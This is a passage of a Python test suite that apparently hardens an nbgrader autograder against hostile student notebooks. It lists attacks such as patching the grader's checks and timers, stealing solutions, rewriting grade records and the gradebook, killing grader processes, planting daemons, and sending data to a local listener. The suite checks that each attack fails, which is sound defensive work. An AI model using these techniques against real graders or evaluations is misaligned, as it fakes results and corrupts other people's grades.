        assert not book or book == record["grades"], (
            f"nbgrader's gradebook says {book} for {student}/{topic}, the report {record['grades']}")
    return check


def all_of(*checks):
    def check(run):
        problems = []
        for one in checks:
            try:
                one(run)
            except AssertionError as error:
                problems.append(str(error))
        assert not problems, "; ".join(problems)
    return check


def report_keeps_honest_before(run):
    for topic in run.topics:
        _expect_full(f"honest_before/{topic} in the grades in force",
                     run.report[f"honest_before/{topic}"]["grades"], topic)


def report_is_readable_and_graded_on(run):
    assert not run.crashes, f"grade_all raised: {run.crashes}"
    load_report(run.course)        # every record in force reads


def report_on_disk_is_as_graded(run):
    """Seconds after grading, the grades in force (records and gradebook) are still what grading left."""
    try:
        now = load_report(run.course)
    except Exception as error:  # noqa: BLE001 - the attack left them unreadable
        raise AssertionError(f"the grades in force can no longer be read: {error}") from None
    changed = sorted(k for k in set(now) | set(run.report) if now.get(k) != run.report.get(k))
    assert not changed, f"the grades in force changed after grading: {changed[:6]}"


def report_kept_as_returned(student, topic):
    """What the grades in force said when grading returned is what grade_all returned (nobody rewrote them mid-run)."""
    def check(run):
        saved, returned = run.report.get(f"{student}/{topic}"), run.record(student, topic)
        assert saved and returned and saved["grades"] == returned["grades"], (
            f"the grades in force say {saved and saved['grades']} for {student}/{topic}, grading returned "
            f"{returned and returned['grades']}")
    return check


def no_survivors(kind):
    def check(run):
        alive = [(pid, cmd) for pid, cmd in run.survivors if f"{run.marker}-{kind}" in cmd]
        assert not alive, f"{len(alive)} processes left by the submission still run after grading: {alive[:3]}"
    return check


def listener_got_nothing(run):
    assert not run.connections, f"the submission reached the test's listener on 127.0.0.1: {run.connections}"


def grading_time_bounded(student, topic, limit_s):
    def check(run):
        record = run.record(student, topic)
        assert record is not None, f"{student}/{topic} was never graded"
        assert record["seconds"] < limit_s, f"grading {student}/{topic} took {record['seconds']:.0f} s (> {limit_s} s)"
    return check


def kit_unchanged(run):
    changed = changed_files(run, under=run.kit)
    assert not changed, f"the kit's files were changed: {changed}"


def honest_after_keeps(topic, *items):
    def check(run):
        expect_honest_record(run, "honest_after", topic, items)
    return check


def config_unchanged(run):
    expect_unchanged(run, run.course / "nbgrader_config.py")


def submission_unchanged(student, topic):
    def check(run):
        expect_unchanged(run, submission_file(run.course, student, topic))
    return check


# ---------------------------------------------------------------- the attacks

STUBS_STABILITY = {}   # every solution cell keeps the release stub


def _steal_everywhere(code, topic="stability"):
    return {cell: code for cell in SOLUTION_CELLS[topic]}


ATTACKS = [
    # --- the notebook's metadata
    Attack("skip_execution", "stability", "tags every graded test cell skip-execution: nbclient never runs them",
           STUBS_STABILITY, nothing("stability"), mutate=tag_tests_skip_execution),
    Attack("strip_test_metadata", "stability", "removes the nbgrader metadata of every graded test cell",
           STUBS_STABILITY, nothing("stability"), mutate=strip_test_metadata),
    Attack("inflate_points", "stability", "sets points: 100 on every graded test cell (reference answers)",
           _steal_everywhere(REFERENCE), everything_but("stability"), mutate=inflate_points),
    Attack("bonus_cell", "stability", "pastes a copy of a test cell renamed `bonus`, points: 100, that runs `pass` "
           "(reference answers: 29 points, no bonus)", _steal_everywhere(REFERENCE), everything_but("stability"),
           mutate=add_bonus_cell),
    Attack("duplicate_test_cell", "stability", "pastes a copy of test_softmax_forward, running `pass`, after the "
           "real one", STUBS_STABILITY, nothing("stability"), mutate=add_duplicate_test_cell),
    Attack("solution_claims_points", "stability", "marks its stable_softmax answer cell grade: true, points: 100 "
           "(reference answers)", _steal_everywhere(REFERENCE), everything_but("stability"),
           mutate=claim_points_on_solution),
    # --- replacing the grader's code inside the kernel
    Attack("patch_check_attributes", "stability", "replaces every check_* of autograder.checks.stability with a "
           "no-op", {"stable_softmax": PATCH_CHECK_ATTRIBUTES}, nothing("stability")),
    Attack("patch_check_code", "stability", "replaces the __code__ of every check function (under @graded's "
           "wrapper) with a no-op's", {"stable_softmax": PATCH_CHECK_CODE}, nothing("stability")),
    Attack("patch_assert_close", "stability", "torch.testing.assert_close = no-op, and a constant softmax",
           {"stable_softmax": PATCH_ASSERT_CLOSE}, nothing("stability")),
    Attack("patch_gradcheck", "stability", "assert_close and torch.autograd.gradcheck replaced; a softplus whose "
           "backward is relu's", {"softplus": PATCH_GRADCHECK}, nothing("stability"),   # assigning torch.testing: under review
           reported="under review"),
    Attack("fake_check_module", "stability", "puts a fake autograder.checks.stability in sys.modules",
           {"stable_softmax": FAKE_CHECK_MODULE}, nothing("stability")),
    Attack("input_transformer", "stability", "an IPython input transformer turns every later cell that imports "
           "a check into `pass`", {"stable_softmax": INPUT_TRANSFORMER}, nothing("stability")),
    Attack("ast_transformer", "stability", "an IPython AST transformer wraps every later cell in try/except "
           "BaseException", {"stable_softmax": AST_TRANSFORMER}, nothing("stability")),
    Attack("always_close_tensor", "stability", "a constant softmax returned as a Tensor subclass whose "
           "__torch_function__ says finite, close and equal", {"stable_softmax": ALWAYS_CLOSE_TENSOR},
           nothing("stability")),
    # --- someone else's answers
    Attack("steal_solutions_file", "stability", "finds solutions/stability.py above autograder.__file__ (or the "
           "notebook) and runs it", _steal_everywhere(STEAL_SOLUTIONS_FILE), nothing("stability")),
    Attack("steal_source_notebook", "stability", "finds source/stability/stability.ipynb above the notebook and "
           "runs its solution cells", _steal_everywhere(STEAL_SOURCE_NOTEBOOK), nothing("stability")),
    Attack("copy_other_student", "stability", "runs the answers of submitted/honest_before/stability/"
           "stability.ipynb", _steal_everywhere(COPY_OTHER_STUDENT), nothing("stability")),
    Attack("read_seed", "stability", "reads AUTOGRADER_GRADING_SEED, replays the checks' hidden inputs and "
           "memorises torch.softmax's answers; otherwise an unshifted softmax", {"stable_softmax": READ_SEED},
           nothing("stability"), reported="under review"),   # it imports the checks in its answer cell
    # --- the speed and op-count checks (a naive row_sum: right, but a loop)
    Attack("lower_speed_threshold", "operators", "sets settings.speed.thresholds['row_sum'] to 1x",
           {"masked_mean": REFERENCE, "row_sum": LOWER_THRESHOLD}, nothing("operators"),   # imports autograder: review
           reported="under review"),
    Attack("patch_perf_counter", "operators", "time.perf_counter / perf_counter_ns hide 98% of the time spent "
           "in row_sum", {"masked_mean": REFERENCE, "row_sum": PATCH_PERF_COUNTER},
           everything_but("operators", "row_sum_vectorized", "row_sum_speed")),
    Attack("patch_benchmark_timer", "operators", "torch.utils.benchmark.Timer reports row_sum 100x faster",
           {"masked_mean": REFERENCE, "row_sum": PATCH_BENCHMARK_TIMER}, nothing("operators"),   # setattr on torch
           reported="under review"),
    Attack("cache_by_id", "operators", "returns the cached answer when called again with the same tensor (id(x))",
           {"masked_mean": REFERENCE, "row_sum": CACHE_BY_ID},
           everything_but("operators", "row_sum_vectorized", "row_sum_speed")),
    Attack("cache_by_data_ptr", "operators", "returns the cached answer for the same storage (data_ptr)",
           {"masked_mean": REFERENCE, "row_sum": CACHE_BY_DATA_PTR},
           everything_but("operators", "row_sum_vectorized", "row_sum_speed")),
    Attack("slow_baseline", "operators", "patches torch.Tensor.__getitem__ to sleep: the slicing baseline slows "
           "down", {"masked_mean": REFERENCE, "row_sum": SLOW_BASELINE}, nothing("operators"),   # assigns torch.Tensor
           reported="under review"),
    Attack("precomputed_table", "operators", "a table of answers for the timed inputs the kit's source lets it "
           "predict (seed 0 plus k / 8), filled before any clock runs; row_sum itself a Python loop",
           {"masked_mean": REFERENCE, "row_sum": PRECOMPUTED_TABLE},
           everything_but("operators", "row_sum_vectorized", "row_sum_speed")),
    # Behaving one way when watched and another when not cannot be told apart any more: the worker runs every call
    # it serves under the recorder, the timed ones included, so every graded call takes the vectorized branch,
    # which the student did write and which is correct and fast: full marks, as for any vectorized row_sum. (Under
    # kernel grading, the untimed and unrecorded calls took the loop, and the loop got the speed points too.)
    Attack("mode_aware_enabled", "operators", "vectorized only while torch._C._is_torch_function_mode_enabled()",
           {"masked_mean": REFERENCE, "row_sum": MODE_AWARE_ENABLED},
           only("operators", "masked_mean", "masked_mean_special_values"), reported="under review"),   # torch._C
    Attack("mode_aware_stack", "operators", "vectorized only while a TorchFunctionMode is on the stack",
           {"masked_mean": REFERENCE, "row_sum": MODE_AWARE_STACK},
           only("operators", "masked_mean", "masked_mean_special_values"), reported="under review"),   # overrides
    # --- evidence the worker reports about itself, forged (issue 24): the source says what the worker hides
    Attack("hide_every_op", "operators", "a loop row_sum run inside _disable_current_modes() and "
           "torch._C.DisableTorchFunction(): the recorder sees no op", {"masked_mean": REFERENCE, "row_sum": HIDE_EVERY_OP},
           only("operators", "masked_mean", "masked_mean_special_values"), reported="under review.*DisableTorch"),
    Attack("loop_in_python_lists", "operators", "a loop over x.tolist() in plain Python: the same torch calls at "
           "every size, so the op counts say vectorized", {"masked_mean": REFERENCE, "row_sum": LOOP_IN_PYTHON_LISTS},
           only("operators", "masked_mean", "masked_mean_special_values", "row_sum"),
           reported="read from your source: `row_sum` uses a `for` loop"),
    # --- size and time
    Attack("huge_notebook", "stability", "60 MB of base64 in a cell output (reference answers): refused before "
           "parsing", _steal_everywhere(REFERENCE), nothing("stability"), mutate=add_huge_output,
           reported=r"(?i)too (large|big)|size|MB|bytes"),
    Attack("malformed_cells", "stability", "a number among the cells and a cell whose metadata is a list "
           "(reference answers): an error naming the cell, before grading", _steal_everywhere(REFERENCE),
           nothing("stability"), mutate=add_malformed_cells, reported=r"cell 1 is 42, not a cell"),
    Attack("catch_timeout", "stability", "stable_softmax loops forever on bfloat16 inside `except BaseException: "
           "continue` (CallTimeout and interrupts swallowed)",
           {"stable_softmax": CATCH_TIMEOUT, "softmax_cross_entropy": Reference(before="import torch\n\n"),
            "softplus": REFERENCE}, everything_but("stability", "softmax_forward", "softmax_extremes"),
           reported=r"(?i)did not return|time|longer than"),
    Attack("protocol_garbage", "stability", "stable_softmax writes garbage into every open file descriptor (the "
           "worker's pipe to the grader among them) on bfloat16 inputs",
           {"stable_softmax": PROTOCOL_GARBAGE, "softmax_cross_entropy": Reference(before="import torch\n\n"),
            "softplus": REFERENCE}, everything_but("stability", "softmax_forward", "softmax_extremes"),
           reported=r"(?i)stopped answering|could not be completed|malformed"),
    # --- the report and the gradebook
    Attack("report_garbage", "stability", "overwrites every verdict record with invalid JSON while being graded "
           "(reference answers)", {"stable_softmax": reference_then(REPORT_GARBAGE),
                                   "softmax_cross_entropy": REFERENCE, "softplus": REFERENCE},
           everything_but("stability"), aftermath=report_is_readable_and_graded_on),
    Attack("report_tamper", "stability", "rewrites honest_before's verdict records (valid JSON) with its scores "
           "at 0 (reference answers)", {"stable_softmax": reference_then(REPORT_TAMPER),
                                         "softmax_cross_entropy": REFERENCE, "softplus": REFERENCE},
           everything_but("stability"), aftermath=report_keeps_honest_before),
    Attack("gradebook_write", "stability", "sqlite3: manual_score = max and extra_credit for itself, "
           "manual_score = 0 for honest_before", {"stable_softmax": GRADEBOOK_WRITE}, nothing("stability"),
           aftermath=all_of(honest_before_keeps_full_gradebook, no_manual_scores_for("gradebook_write"))),
    # --- processes and the network
    Attack("kill_grader", "stability", "SIGKILLs its parent and every nbgrader / python -m autograder process in "
           "the course (softmax and cross-entropy answered)",
           {"stable_softmax": REFERENCE, "softmax_cross_entropy": REFERENCE, "softplus": KILL_GRADER},
           everything_but("stability", "softplus_forward", "softplus_extremes", "softplus_gradient",
                          "softplus_custom_backward", "softplus_no_builtin")),
    Attack("sleepers", "stability", "a cell it adds starts 30 setsid sleepers that outlive grading (reference "
           "answers)", _steal_everywhere(REFERENCE), everything_but("stability"),
           extra_cells=((SLEEPERS, {"tags": ["hide-input"]}),), aftermath=no_survivors("sleeper")),
    Attack("network", "stability", "a cell it adds connects to a listener on 127.0.0.1 and sends its working "
           "directory and the seed (reference answers)", _steal_everywhere(REFERENCE), everything_but("stability"),
           extra_cells=((NETWORK, {}),), aftermath=listener_got_nothing),
    Attack("pipe_holder", "stability", "a detached grandchild keeps the grader's stdout/stderr pipes open for 90 s "
           "(reference answers)", {"stable_softmax": REFERENCE, "softmax_cross_entropy": REFERENCE,
                                   "softplus": reference_then(PIPE_HOLDER)},
           everything_but("stability"), aftermath=all_of(grading_time_bounded("pipe_holder", "stability", 75),
                                                         no_survivors("pipes"))),
    Attack("daemon", "stability", "a double-forked, setsid daemon waits for the batch to end, then rewrites "
           "the verdict records (itself full, everyone else 0) and its gradebook scores",
           {"stable_softmax": DAEMON}, nothing("stability"),
           aftermath=all_of(report_kept_as_returned("daemon", "stability"), report_on_disk_is_as_graded,
                            no_manual_scores_for("daemon"))),
    # --- changing what grades the students after it
    Attack("overwrite_other_submission", "stability", "rewrites honest_after's submitted notebook: its "
           "cross-entropy answer becomes the stub (reference answers)",
           {"stable_softmax": reference_then(OVERWRITE_OTHER), "softmax_cross_entropy": REFERENCE,
            "softplus": REFERENCE}, everything_but("stability"),
           aftermath=all_of(submission_unchanged("honest_after", "stability"),
                            honest_after_keeps("stability", "cross_entropy_forward", "cross_entropy_extremes",
                                               "cross_entropy_gradient", "cross_entropy_no_builtin"))),
    Attack("config_append", "operators", "appends to the course's nbgrader_config.py: later kernels get "
           "AUTOGRADER_SETTINGS asking row_sum for a 1e9x speedup (reference answers)",
           {"masked_mean": reference_then(CONFIG_APPEND), "row_sum": REFERENCE}, everything_but("operators"),
           aftermath=all_of(config_unchanged, honest_after_keeps("operators", "row_sum_speed"))),
    Attack("checks_file_append", "stability", "appends to autograder/checks/stability/__init__.py: every later "
           "student fails check_softplus_no_builtin (reference answers)",
           {"stable_softmax": REFERENCE, "softmax_cross_entropy": REFERENCE,
            "softplus": reference_then(CHECKS_FILE_APPEND)}, nothing("stability"),   # imports the checks: review
           aftermath=all_of(kit_unchanged, honest_after_keeps("stability", "softplus_no_builtin"))),
]

BY_NAME = {attack.name: attack for attack in ATTACKS}
assert len(BY_NAME) == len(ATTACKS), "attack names are student names: one each"
